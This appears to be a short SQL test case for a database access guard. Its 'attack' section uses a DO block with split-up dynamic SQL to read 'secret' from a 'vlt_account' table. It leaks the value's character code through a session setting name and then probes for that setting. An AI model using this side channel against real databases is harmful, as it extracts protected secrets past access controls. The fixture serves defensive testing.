-- Ends a transaction that has failed and makes names up in one text, then asks which there are.
-- wants: read
-- shows: letter-116
-- attack:
BEGIN;
SELECT 1 / 0;
-- together
ROLLBACK; DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y2_' || ascii(value), '', false);
END $$; SELECT 1 / 0;
-- apart
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y2_{n}', true) IS NOT NULL;
